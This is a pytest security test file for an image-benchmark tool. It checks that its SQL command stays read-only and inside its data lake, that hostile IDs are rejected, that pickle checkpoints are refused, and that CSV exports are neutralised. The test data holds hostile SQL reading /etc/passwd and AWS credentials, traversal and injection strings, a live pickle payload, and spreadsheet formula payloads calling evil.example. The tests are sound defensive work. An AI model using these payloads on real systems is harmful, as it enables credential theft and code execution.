"""Security, continued (issue 4, point 6; split from test_security.py, which keeps point 1).

2. ``imagebench sql`` (CLI and :func:`tasks.lake.tables.query`) cannot write, attach or read outside the
   lake.
3. User-supplied identifiers that reach a path or a SQL string are validated or parameterised.
4. Checkpoints load with safetensors (or ``weights_only``) only: an AST scan of the sources, and a
   pickle checkpoint that would run code is refused without running it.
"""

from __future__ import annotations

import ast
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.fake_openai import free_port
from tests.flows.conftest import REPO, cli_process, image_bytes

# --------------------------------------------------------------------------------------------
# 2. `imagebench sql` cannot write, attach or read outside the lake
# (tests/tasks/test_lake.py already covers, on connect_readonly: COPY, CREATE TABLE, INSERT,
# ATTACH, INSTALL, LOAD, SET, EXPORT, "SELECT 1; DROP ..." and read_csv('/etc/hostname');
# these are the rest, through both the library call and the CLI as a user runs it.)
# --------------------------------------------------------------------------------------------


@pytest.fixture
def sql_catalog(tmp_path):
    """A catalog with one model's rows; an outside directory with files worth stealing."""
    from tasks.lake.tables import Lake, refresh_catalog
    from tests.tasks.test_lake import hps_rows, small_suite

    home = tmp_path / "home"
    lake = Lake(home / "lake")
    lake.write_partition("hps_scores", "m1", hps_rows("m1", {"sr-1": 1.0, "sr-2": 2.0}))
    catalog = refresh_catalog(home / "lake", home / "imagebench.duckdb", small_suite(), "r1")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("OUTSIDE-SECRET\n")
    (outside / "secret.csv").write_text("a\nOUTSIDE-SECRET\n")
    import shutil

    shutil.copyfile(lake.partition_path("hps_scores", "m1"), outside / "stolen.parquet")
    (outside / "export").mkdir()
    (outside / "export" / "schema.sql").write_text("OUTSIDE-SECRET is not sql;\n")
    (outside / "export" / "load.sql").write_text("")
    return home, catalog, outside


def _hostile_sql(lake: Path, outside: Path, home: Path) -> dict[str, str]:
    """statement -> what it tries. Lake paths are included: writes must fail even inside it."""
    return {
        f"ATTACH '{outside / 'evil.duckdb'}' AS evil": "attach a new database file",
        "ATTACH ':memory:' AS scratch": "attach an in-memory database",
        "DETACH imagebench": "detach the catalog",
        f"COPY (SELECT * FROM hps_scores) TO '{outside / 'dump.csv'}'": "copy out of the lake",
        f"COPY (SELECT 1) TO '{lake / 'x.csv'}'": "copy into the lake",
        f"EXPORT DATABASE '{outside / 'exp'}'": "export the catalog",
        "CREATE TABLE t AS SELECT 1": "create a table",
        "CREATE VIEW v AS SELECT 1": "create a view",
        "CREATE OR REPLACE VIEW leaderboard AS SELECT 1 AS x": "replace a view",
        "CREATE TEMP TABLE t AS SELECT 1": "create a temp table",
        "CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 'v')": "create a secret",
        "INSERT INTO prompts SELECT * FROM prompts": "insert",
        "UPDATE prompts SET tag = 'x'": "update",
        "DELETE FROM prompts": "delete",
        "DROP VIEW leaderboard": "drop",
        "ALTER VIEW leaderboard RENAME TO lb": "alter",
        "SET enable_external_access = true": "set",
        "RESET allowed_directories": "reset",
        "SET VARIABLE v = 1": "set a variable",
        "PRAGMA enable_profiling": "pragma",
        f"PRAGMA profiling_output = '{outside / 'profile.json'}'": "pragma writing a file",
        "INSTALL httpfs": "install an extension",
        "FORCE INSTALL httpfs": "force install",
        "LOAD httpfs": "load an extension",
        "CALL pragma_version()": "call",
        "CHECKPOINT": "checkpoint",
        "BEGIN TRANSACTION": "transaction",
        "USE memory": "switch database",
        f"IMPORT DATABASE '{outside / 'export'}'": "import (the parser reads files)",
        f"SELECT 1; COPY (SELECT 1) TO '{outside / 'hidden.csv'}'": "a write hidden after a SELECT",
        f"SELECT 1; ATTACH '{outside / 'hidden.duckdb'}' AS h": "an attach hidden after a SELECT",
        "SELECT 1; DELETE FROM prompts": "a delete hidden after a SELECT",
        f"EXPLAIN ANALYZE COPY (SELECT 1) TO '{lake / 'explained.csv'}'": "EXPLAIN ANALYZE runs a COPY",
        f"/* c */ EXPLAIN /* c */ ANALYZE COPY (SELECT 1) TO '{lake / 'explained2.csv'}'": "same, behind comments",
        f"EXPLAIN (ANALYZE, FORMAT json) COPY (SELECT 1) TO '{lake / 'explained3.csv'}'": "same, options form",
        f"SELECT * FROM read_csv('{outside / 'secret.csv'}')": "read_csv outside the lake",
        f"SELECT * FROM read_text('{outside / 'secret.txt'}')": "read_text outside the lake",
        f"SELECT * FROM read_blob('{outside / 'secret.txt'}')": "read_blob outside the lake",
        f"SELECT * FROM read_parquet('{outside / 'stolen.parquet'}')": "read_parquet outside the lake",
        f"SELECT * FROM '{outside / 'secret.csv'}'": "replacement scan outside the lake",
        f"SELECT * FROM read_text('{lake}/../../outside/secret.txt')": "'..' out of the lake",
        f"SELECT * FROM read_text('{lake}evil/x')": "a sibling whose name starts like the lake",
        f"SELECT * FROM glob('{outside}/*')": "glob outside the lake",
        f"SELECT * FROM glob('{lake}/../../*')": "glob '..' out of the lake",
        "SELECT * FROM glob('/etc/*')": "glob /etc",
        "SELECT * FROM read_text('/etc/passwd')": "read /etc/passwd",
        "SELECT * FROM read_text('~/.aws/credentials')": "read the AWS credentials file",
        "SELECT * FROM 'https://example.com/x.csv'": "a remote file",
    }


def _assert_nothing_written(home: Path, outside: Path, before: dict[Path, bytes], catalog_bytes: bytes, catalog: Path):
    after = {p: p.read_bytes() for p in sorted(home.rglob("*")) if p.is_file()}
    assert after.keys() == before.keys(), f"files appeared/disappeared: {sorted(set(after) ^ set(before))}"
    assert after == before
    assert catalog.read_bytes() == catalog_bytes
    assert sorted(p.name for p in outside.iterdir()) == ["export", "secret.csv", "secret.txt", "stolen.parquet"]


def test_sql_library_cannot_write_attach_or_read_outside(sql_catalog):
    from tasks.lake.tables import LakeError, query

    home, catalog, outside = sql_catalog
    lake = home / "lake"
    before = {p: p.read_bytes() for p in sorted(home.rglob("*")) if p.is_file()}
    catalog_bytes = catalog.read_bytes()
    assert query(catalog, "SELECT count(*) FROM hps_scores")[1] == [(2,)]
    assert query(catalog, f"SELECT count(*) FROM glob('{lake}/*/*/data.parquet')")[1][0][0] >= 1  # the lake stays readable
    leaked = []
    for sql, what in _hostile_sql(lake, outside, home).items():
        if "EXPLAIN" in sql:
            continue  # tasks.lake.tables misses EXPLAIN ANALYZE: test_sql_library_gaps
        try:
            cols, rows = query(catalog, sql)
        except (LakeError, ValueError, PermissionError) as exc:
            if "IMPORT" not in sql:  # the parser's file read: test_sql_library_gaps
                assert "OUTSIDE" not in str(exc), (sql, str(exc))
            continue
        leaked.append(f"{what}: {sql!r} ran: {rows[:2]}")
    assert not leaked, "\n".join(leaked)
    _assert_nothing_written(home, outside, before, catalog_bytes, catalog)


def test_sql_library_gaps(sql_catalog):
    from tasks.lake.tables import LakeError, query

    home, catalog, outside = sql_catalog
    target = home / "lake" / "explained.csv"
    try:
        query(catalog, f"EXPLAIN ANALYZE COPY (SELECT 1) TO '{target}'")
    except LakeError:
        pass
    assert not target.exists(), "EXPLAIN ANALYZE wrote into the lake directory"
    with pytest.raises(LakeError) as info:
        query(catalog, f"IMPORT DATABASE '{outside / 'export'}'")
    assert "OUTSIDE" not in str(info.value), "the parser read a file outside the lake"


def test_sql_cli_cannot_write_attach_or_read_outside(sql_catalog):
    """The CLI in a subprocess (as a user runs it): every hostile statement exits 1 with an
    error, the catalog's bytes and the workspace are unchanged, nothing appears outside."""
    home, catalog, outside = sql_catalog
    lake = home / "lake"
    before = {p: p.read_bytes() for p in sorted(home.rglob("*")) if p.is_file()}
    catalog_bytes = catalog.read_bytes()
    hostile = _hostile_sql(lake, outside, home)
    # One interpreter for all statements (a subprocess each would take minutes on 2 cores).
    code = (
        "import json, sys\n"
        "from typer.testing import CliRunner\n"
        "from flows.cli import app\n"
        "out = {}\n"
        "for q in json.loads(sys.argv[1]):\n"
        "    r = CliRunner().invoke(app, ['sql', q, '--format', 'json'])\n"
        "    out[q] = [r.exit_code, r.output]\n"
        "print(json.dumps(out))\n"
    )
    env = {**{k: v for k, v in os.environ.items() if not k.startswith(("IMAGEBENCH_", "PYTEST"))},
           "IMAGEBENCH_HOME": str(home)}
    res = subprocess.run([sys.executable, "-c", code, json.dumps(list(hostile))], cwd=REPO, env=env,
                         capture_output=True, text=True, timeout=300)
    assert res.returncode == 0, res.stderr[-3000:]
    results = json.loads(res.stdout.strip().splitlines()[-1])
    ran = [f"{hostile[q]}: {q!r} -> exit {code}: {output[-200:]!r}" for q, (code, output) in results.items()
           if code != 1 or "error" not in output.lower()]
    assert not ran, "\n".join(ran)
    assert not any("OUTSIDE" in output for _, output in results.values()), "a file outside the lake was read"
    # and the real thing, once: `python -m flows.cli sql ...` in its own process
    ok = cli_process(["sql", "SELECT count(*) AS n FROM hps_scores", "--format", "csv"], env, timeout=120)
    assert ok.returncode == 0 and ok.stdout.split() == ["n", "2"], ok.stderr
    bad = cli_process(["sql", f"SELECT 1; COPY (SELECT 1) TO '{outside / 'cli.csv'}'"], env, timeout=120)
    assert bad.returncode == 1 and "read-only" in bad.stderr
    _assert_nothing_written(home, outside, before, catalog_bytes, catalog)


# --------------------------------------------------------------------------------------------
# 3. Identifiers that reach a path or a SQL string are validated or parameterised
# (model ids in Lake/ingest/keys are covered in tests/tasks/test_lake.py and test_storage.py;
# these are the other entry points.)
# --------------------------------------------------------------------------------------------

HOSTILE = ["../x", "a/b", "x'; DROP TABLE images; --", "..", "/etc/passwd", "a\x00b", "x\n", ""]


def _files(root: Path) -> dict[Path, bytes]:
    return {p: p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()} if root.exists() else {}


def test_hostile_ids_in_import_files_scorer_and_judge_names(workspace, tmp_path):
    """import-scores / import-verdicts: a hostile model id, scorer name or judge name is refused
    (named in the error) and nothing is written anywhere."""
    import polars as pl

    from schemas.settings import load_settings
    from tasks.lake.imports import ScoresFileError, import_scores_file, import_verdicts_file
    from tasks.scores.suite import load_suite
    from tests.flows.conftest import PROMPT_IDS

    s = load_settings()
    suite = load_suite(s.suite_path)
    before = _files(tmp_path)
    for bad in HOSTILE:
        # Cells are stripped on import ("x\n" is the model "x"); the --scorer option is not.
        for ext in (("csv", "parquet") if bad != "x\n" else ()):
            scores = tmp_path / f"scores.{ext}"
            verdicts = tmp_path / f"verdicts.{ext}"
            frame = pl.DataFrame({"model_id": [bad], "prompt_id": [PROMPT_IDS[0]], "mu": ["1.5"]})
            vframe = pl.DataFrame({"model_id": [bad], "prompt_id": [PROMPT_IDS[0]], "verdict": ["PASS"], "judge": ["lab-j"]})
            jframe = pl.DataFrame({"model_id": ["m1"], "prompt_id": [PROMPT_IDS[0]], "verdict": ["PASS"], "judge": [bad]})
            for frame_, path in ((frame, scores), (vframe, verdicts)):
                frame_.write_csv(path) if ext == "csv" else frame_.write_parquet(path)
            with pytest.raises(ScoresFileError, match="invalid model id|model_id"):
                import_scores_file(s, suite, scores, "lab-x")
            with pytest.raises(ScoresFileError, match="invalid model id|model_id"):
                import_verdicts_file(s, suite, verdicts)
            if bad.strip():  # the importer strips cells; an empty judge is refused as well
                (jframe.write_csv(verdicts) if ext == "csv" else jframe.write_parquet(verdicts))
                with pytest.raises(ScoresFileError, match="judge"):
                    import_verdicts_file(s, suite, verdicts)
            scores.unlink()
            verdicts.unlink()
        with pytest.raises(ScoresFileError, match="--scorer"):
            import_scores_file(s, suite, tmp_path / "never-read.csv", bad)
    assert _files(tmp_path) == before
    assert not (workspace / "lake").exists() or not list((workspace / "lake").rglob("data.parquet"))


def test_hostile_ids_in_compare_and_breakdown(workspace):
    from typer.testing import CliRunner

    from flows.cli import app

    before = _files(workspace)
    for bad in HOSTILE:
        for args in (["compare", bad, "m1"], ["compare", "m1", bad], ["breakdown", "--model", bad]):
            r = CliRunner().invoke(app, args)
            assert r.exit_code == 1, (args, r.output)
            assert "invalid model id" in r.output, (args, r.output)
    assert _files(workspace) == before


def test_hostile_versions_are_refused_and_sql_literals_are_quoted(tmp_path, monkeypatch):
    """Versions become file names and SQL literals: refused by the settings and by the reference
    module; and where a literal is built (the leaderboard view) it is quoted, so even a hostile
    value reaching it stays a value."""
    from pydantic import ValidationError

    from schemas.settings import load_settings
    from tasks.lake.tables import Lake, query, refresh_catalog
    from tasks.scores.reference import _check_version
    from tests.tasks.test_lake import hps_rows, small_suite

    for bad in HOSTILE:
        for field in ("reference_version", "suite_version", "routing_version"):
            with pytest.raises((ValidationError, ValueError)):
                load_settings(**{field: bad})
        with pytest.raises(ValueError, match="invalid reference version"):
            _check_version(bad)
    monkeypatch.setenv("IMAGEBENCH_REFERENCE_VERSION", "../x")
    with pytest.raises((ValidationError, ValueError)):
        load_settings()

    lake = Lake(tmp_path / "lake")
    lake.write_partition("hps_scores", "m1", hps_rows("m1", {"sr-1": 1.0}))
    hostile = "r1' OR '1'='1"
    cat = refresh_catalog(tmp_path / "lake", tmp_path / "ib.duckdb", small_suite(), hostile)
    assert query(cat, "SELECT reference_version FROM catalog_info")[1] == [(hostile,)]
    assert query(cat, "SELECT count(*) FROM leaderboard")[1] == [(0,)]
    names = {r[0] for r in query(cat, "SELECT table_name FROM information_schema.tables")[1]}
    assert "images" in names and "leaderboard" in names and "prompts" in names


def test_hostile_judge_template_and_page_names(tmp_path):
    from tasks.judges import JudgesConfigError, load_template, parse_judges_config
    from tasks.report.build import page_name
    from tasks.store.storage import InvalidModelId, S3Store

    for bad in [b for b in HOSTILE if b != "x\n"]:  # "x\n": see the report (JUDGE_NAME_RE.match)
        with pytest.raises(JudgesConfigError):
            parse_judges_config({"judges": {bad: {"backend": "openai", "base_url": "http://127.0.0.1:1/v1", "model": "m"}}})
        with pytest.raises(ValueError):
            load_template(bad)
    for bad in HOSTILE:
        name = page_name(bad)  # report pages are named after model ids
        assert "/" not in name and "\\" not in name and "\x00" not in name and ".." not in name
        assert name and not name.startswith(".") and "\n" not in name
    # S3: a hostile model id is refused before any request (the endpoint does not exist)
    store = S3Store("bucket-x", endpoint_url=f"http://127.0.0.1:{free_port()}", max_attempts=0)
    for bad in HOSTILE:
        with pytest.raises(InvalidModelId):
            store.list_model_objects(bad)


# --------------------------------------------------------------------------------------------
# 4. Checkpoints load with safetensors (or weights_only) only
# --------------------------------------------------------------------------------------------

SOURCE_DIRS = ("flows", "tasks", "schemas", "bench")
# Classes whose from_pretrained reads no weights (JSON, tokenizer files): use_safetensors does not apply.
_NO_WEIGHTS = ("Tokenizer", "Processor", "Config", "FeatureExtractor", "GenerationConfig")
_UNSAFE_CALLS = {
    "pickle.load", "pickle.loads", "pickle.Unpickler", "_pickle.load", "_pickle.loads", "cPickle.load",
    "cPickle.loads", "dill.load", "dill.loads", "joblib.load", "pandas.read_pickle", "torch.jit.load",
    "torch.hub.load", "shelve.open", "marshal.load", "marshal.loads",
}


def _is_true(node: ast.AST | None) -> bool:
    return isinstance(node, ast.Constant) and node.value is True


def unsafe_loads(source: str, filename: str = "<src>") -> list[str]:
    """Calls that may unpickle: torch.load without weights_only=True, pickle/joblib/dill/...,
    numpy.load(allow_pickle=...) other than False, from_pretrained of a model without
    use_safetensors=True. Import aliases are followed (``import torch as t``, ``from pickle
    import loads``)."""
    tree = ast.parse(source, filename)
    alias: dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for a in node.names:
                alias[a.asname or a.name.split(".")[0]] = a.name if a.asname else a.name.split(".")[0]
        elif isinstance(node, ast.ImportFrom) and node.module:
            for a in node.names:
                alias[a.asname or a.name] = f"{node.module}.{a.name}"

    def dotted(node: ast.AST) -> str:
        if isinstance(node, ast.Name):
            return alias.get(node.id, node.id)
        if isinstance(node, ast.Attribute):
            base = dotted(node.value)
            return f"{base}.{node.attr}" if base else node.attr
        if isinstance(node, ast.Call):
            return dotted(node.func)
        return ""

    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = dotted(node.func)
        kw = {k.arg: k.value for k in node.keywords}
        where = f"{filename}:{node.lineno}: {ast.unparse(node)[:100]}"
        if name in ("torch.load", "torch.serialization.load") and not _is_true(kw.get("weights_only")):
            found.append(f"{where}: torch.load without weights_only=True")
        elif name in _UNSAFE_CALLS:
            found.append(f"{where}: {name} unpickles")
        elif name in ("numpy.load", "np.load") and "allow_pickle" in kw and not (
            isinstance(kw["allow_pickle"], ast.Constant) and kw["allow_pickle"].value is False
        ):
            found.append(f"{where}: numpy.load with allow_pickle")
        elif name.endswith("from_pretrained"):
            owner = name.rsplit(".", 2)[-2] if "." in name else ""
            if not any(t in owner for t in _NO_WEIGHTS) and not _is_true(kw.get("use_safetensors")):
                found.append(f"{where}: from_pretrained without use_safetensors=True")
    return found


def test_ast_checker_catches_what_it_should():
    bad = {
        "import torch\ntorch.load(p)": 1,
        "import torch as t\nt.load(p, weights_only=False)": 1,
        "from torch import load\nload(p)": 1,
        "import pickle\npickle.loads(b)": 1,
        "from pickle import load as l\nl(f)": 1,
        "import numpy as np\nnp.load(p, allow_pickle=True)": 1,
        "import joblib\njoblib.load(p)": 1,
        "import torch\ntorch.jit.load(p)": 1,
        "from transformers import AutoModel\nAutoModel.from_pretrained(d)": 1,
        "from transformers import AutoModel\nAutoModel.from_pretrained(d, use_safetensors=False)": 1,
        "import transformers\ntransformers.Qwen2VLForConditionalGeneration.from_pretrained(d, **kw)": 1,
    }
    ok = [
        "import torch\ntorch.load(p, weights_only=True)",
        "import numpy as np\nnp.load(p)",
        "import numpy as np\nnp.load(p, allow_pickle=False)",
        "from transformers import AutoTokenizer\nAutoTokenizer.from_pretrained(d)",
        "from transformers import AutoModel\nAutoModel.from_pretrained(d, use_safetensors=True)",
        "from safetensors import safe_open\nsafe_open(p, framework='pt')",
    ]
    for src, n in bad.items():
        assert len(unsafe_loads(src)) == n, src
    for src in ok:
        assert unsafe_loads(src) == [], src


def test_no_unsafe_weight_loading_in_sources():
    files = [p for d in SOURCE_DIRS for p in sorted((REPO / d).rglob("*.py"))]
    assert len(files) > 30
    found = [f for p in files for f in unsafe_loads(p.read_text(encoding="utf-8"), str(p.relative_to(REPO)))]
    assert not found, "unsafe weight loading:\n" + "\n".join(found)


class _Payload:
    """Unpickling this creates ``marker``: proof that a pickle's code ran."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def _pickle_checkpoint(path: Path, marker: Path) -> Path:
    import torch

    torch.save({"model.embed_tokens.weight": torch.zeros(2, 2), "payload": _Payload(marker)}, path)
    return path


def test_pickle_checkpoint_is_refused_and_never_unpickled(tiny_model, tmp_path, monkeypatch):
    import torch

    base, _ = tiny_model
    # The payload is live: loading it the unsafe way does create its marker.
    probe_marker = tmp_path / "probe-ran"
    torch.load(_pickle_checkpoint(tmp_path / "probe.pt", probe_marker), weights_only=False)
    assert probe_marker.exists()

    marker = tmp_path / "payload-ran"
    as_pt = _pickle_checkpoint(tmp_path / "HPSv3.pt", marker)
    renamed = tmp_path / "HPSv3.safetensors"  # a pickle under the expected name
    renamed.write_bytes(as_pt.read_bytes())
    image = tmp_path / "img.png"
    image.write_bytes(image_bytes(1))
    pairs = tmp_path / "pairs.csv"
    pairs.write_text("image,prompt\nimg.png,a cat\n")

    from schemas.settings import load_settings
    from tasks.runs import pinned
    from tasks.hpsv3.model import CheckpointLayoutError
    from tasks.hpsv3.scorer import HPSv3Scorer

    monkeypatch.setenv("IMAGEBENCH_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("IMAGEBENCH_HPSV3_BASE_MODEL", str(base))
    monkeypatch.setenv("IMAGEBENCH_DEVICE", "cpu")
    for ckpt in (as_pt, renamed):
        monkeypatch.setenv("IMAGEBENCH_HPSV3_CHECKPOINT", str(ckpt))
        pinned.scorer_identity.cache_clear()
        for attempt in (
            lambda: pinned.scorer_identity(pinned.ScorerSpec.from_settings(load_settings())),
            lambda: HPSv3Scorer.load(str(base), str(ckpt), device="cpu"),
        ):
            with pytest.raises(CheckpointLayoutError) as info:
                attempt()
            assert str(ckpt) in str(info.value) and "safetensors is required" in str(info.value)
        # the CLI in its own process, with the checkpoint given by the environment variable
        env = {**{k: v for k, v in os.environ.items() if not k.startswith("PYTEST")}}
        r = cli_process(["hpsv3", "--pairs", str(pairs)], env, timeout=300)
        assert r.returncode == 1, r.stdout + r.stderr
        assert str(ckpt.name) in r.stderr and "safetensors is required" in r.stderr, r.stderr
        assert not marker.exists(), f"the pickle in {ckpt} was executed"
    pinned.scorer_identity.cache_clear()


# --------------------------------------------------------------------------------------------
# 5. Exports that open in a spreadsheet (issue 24 item 7): every CSV imagebench writes goes
# through tasks/store/spreadsheet.py, and a real spreadsheet (LibreOffice Calc) runs none of it.
# --------------------------------------------------------------------------------------------

SPREADSHEET_ATTACKS = {  # column alias -> text that a spreadsheet would run
    "link": '=HYPERLINK("http://evil.example/?x","open me")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quoted": "'=1+1",
    "midcr": 'seen\r=HYPERLINK("http://evil.example/?r","open me")',  # a bare CR starts a new row
}


def _sql_literal(text: str) -> str:
    return "(" + " || ".join(f"chr({ord(c)})" for c in text) + ")"  # no quoting question at all


def test_sql_csv_runs_nothing_in_a_spreadsheet_and_keeps_numbers(sql_catalog, tmp_path):
    """`imagebench sql ... --format csv` (the one CSV writer of every command) in its own process,
    opened in LibreOffice Calc: no cell is a formula, each text reads as written behind one quote,
    and numbers stay numbers (-0.5 as a number and as text, 12 as an integer)."""
    from tests.libreoffice import open_csv

    home = sql_catalog[0]
    env = {**{k: v for k, v in os.environ.items() if not k.startswith(("IMAGEBENCH_", "PYTEST"))}, "IMAGEBENCH_HOME": str(home)}
    columns = ", ".join(f"{_sql_literal(text)} AS {alias}" for alias, text in SPREADSHEET_ATTACKS.items())
    query = f"SELECT {columns}, -0.5 AS num, '-0.5' AS num_text, 12 AS n, NULL AS absent FROM hps_scores LIMIT 1"
    r = cli_process(["sql", query, "--format", "csv"], env, timeout=120)
    assert r.returncode == 0, r.stderr
    out = tmp_path / "sql.csv"
    out.write_text(r.stdout, newline="")
    rows = open_csv(out)
    assert len(rows) == 2, rows  # a header and one row: no cell broke into a row of its own
    cells = dict(zip([c.text for c in rows[0]], rows[1]))
    assert not [(name, c.formula) for name, c in cells.items() if c.formula], cells
    def shown(text: str) -> str:  # Calc shows a CR as a line break, and a tab as <text:tab/>
        return text.replace("\r", "\n").replace("\t", "").lstrip("'")

    for alias, text in SPREADSHEET_ATTACKS.items():
        assert cells[alias].value_type == "string" and shown(cells[alias].text) == shown(text), (alias, cells[alias])
    assert (cells["num"].value_type, cells["num"].value) == ("float", "-0.5")
    assert (cells["num_text"].value_type, cells["num_text"].value) == ("float", "-0.5")
    assert (cells["n"].value_type, cells["n"].value) == ("float", "12")
    assert cells.get("absent") is None or (cells["absent"].value_type is None and cells["absent"].text == "")


def test_every_csv_is_written_by_the_one_neutralising_writer():
    """No module of flows/ or tasks/ writes CSV but tasks/store/spreadsheet.py (an AST scan for
    csv.writer / csv.DictWriter, however imported)."""
    found = []
    for path in sorted([*(REPO / "flows").rglob("*.py"), *(REPO / "tasks").rglob("*.py")]):
        if path == REPO / "tasks" / "store" / "spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            name = None
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                name = node.attr if isinstance(node.value, ast.Name) and node.value.id == "csv" else None
            elif isinstance(node, ast.ImportFrom) and node.module == "csv":
                name = next((a.name for a in node.names if a.name in ("writer", "DictWriter")), None)
            if name:
                found.append(f"{path.relative_to(REPO)}:{node.lineno}: csv.{name}")
    assert not found, "write CSV with tasks.store.spreadsheet.write_csv:\n" + "\n".join(found)


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://e/","x")', '\'=HYPERLINK("http://e/","x")'), ("+1", "+1"), ("-0.5", "-0.5"), ("1e-3", "1e-3"),
    ("-1+1", "'-1+1"), ("-inf", "'-inf"), ("@A1", "'@A1"), ("\t1", "'\t1"), ("\r1", "'\r1"), ("'x", "''x"),
    ("plain", "plain"), ("", ""), (None, ""), (-0.5, -0.5), (3, 3), (True, "True"),
])
def test_spreadsheet_cell_rule(value, written):
    from tasks.store.spreadsheet import cell

    assert cell(value) == written
    if isinstance(value, str):  # a reader undoes the rule in one step: drop one leading quote
        assert (written[1:] if written.startswith("'") else written) == value
